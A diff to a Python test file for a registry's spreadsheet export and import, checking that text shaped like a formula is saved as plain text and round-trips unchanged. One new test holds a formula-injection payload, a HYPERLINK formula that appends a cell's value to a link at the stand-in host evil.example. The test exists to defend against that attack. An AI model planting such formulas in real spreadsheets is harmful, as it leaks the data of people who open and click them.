@@ -226,7 +226,8 @@ def test_the_error_report_workbook_lists_every_problem(db):
     ws = load_workbook(io.BytesIO(error_report_workbook(result.errors))).active
     rows = list(ws.iter_rows(values_only=True))
     assert rows[0][1] == "行 row" and len(rows) == 1 + len(result.errors) == 3
-    assert rows[2][3] == "'-abc"  # never a formula in the report
+    assert rows[2][3] == "-abc"  # the value as given, written as text: never a formula
+    assert ws.cell(row=3, column=4).data_type == "s"
 
 
 def test_the_import_command_exits_non_zero_and_prints_the_report(db, tmp_path, capsys):
@@ -255,6 +256,20 @@ def test_an_export_imports_back_without_a_single_change(db, tmp_path):
     assert result.ok, result.errors[:3]
     assert all(c["created"] == c["updated"] == 0 for c in result.counts.values())
     assert AuditLog.objects.count() == logged
+
+
+def test_text_that_looks_like_a_formula_is_exported_as_text_and_imports_back(db, tmp_path):
+    demo_build(count=3)
+    trap = '=HYPERLINK("http://evil.example/?"&A2,"详情")'
+    Enterprise.objects.filter(pk=Enterprise.objects.first().pk).update(contact_name=trap)
+    path = tmp_path / "registry.xlsx"
+    registry_export(out=path, filters={})
+    sheet = load_workbook(path)["企业"]
+    cells = [c for row in sheet.iter_rows() for c in row if c.value == trap]
+    assert cells and all(c.data_type == "s" for c in cells)
+    result = registry_import(file=path, filename=path.name, actor=None)
+    assert result.ok and all(c["updated"] == 0 for c in result.counts.values())
+    assert Enterprise.objects.filter(contact_name=trap).count() == 1
 
 
 def test_an_export_can_be_limited_to_one_street(db, tmp_path):
